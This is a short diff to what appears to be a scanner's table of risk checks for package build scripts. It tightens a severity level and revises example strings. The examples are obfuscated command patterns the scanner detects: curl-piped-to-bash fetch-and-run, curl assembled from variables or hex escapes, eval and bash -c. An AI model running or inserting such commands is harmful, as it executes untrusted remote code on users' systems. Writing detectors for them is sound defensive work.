@@ -98,7 +98,7 @@ export const CHECKS: ReadonlyArray<RiskCheckInfo & { run: RiskCheck }> = [
   {
     id: 'download-and-run',
     title: 'Downloads and runs code, or opens a raw connection with a program attached',
-    severity: 'high/medium',
+    severity: 'high',
     example: '`curl -s https://x.y/z.sh | bash` in package()',
     run: checkDownloadAndRun,
   },
@@ -120,7 +120,7 @@ export const CHECKS: ReadonlyArray<RiskCheckInfo & { run: RiskCheck }> = [
     id: 'assembled-command',
     title: 'Command name or script built at run time: variables, indirection, eval, `${VAR:-sh}` at the end of a pipe',
     severity: 'high/medium/low',
-    example: '`c=cu; $c\\"rl\\" -s x.y | ${SHELL:-sh}`, `eval "$p"`, `bash -c "$x"`, `$(printf \'\\x63\\x75\\x72\\x6c\')`',
+    example: '`c=cu r=rl; $c$r -s x.y | ${SHELL:-sh}`, `eval "$p"`, `bash -c "$x"`, `$(printf \'\\x63\\x75\\x72\\x6c\') -s x.y`',
     run: checkAssembledCommand,
   },
   {
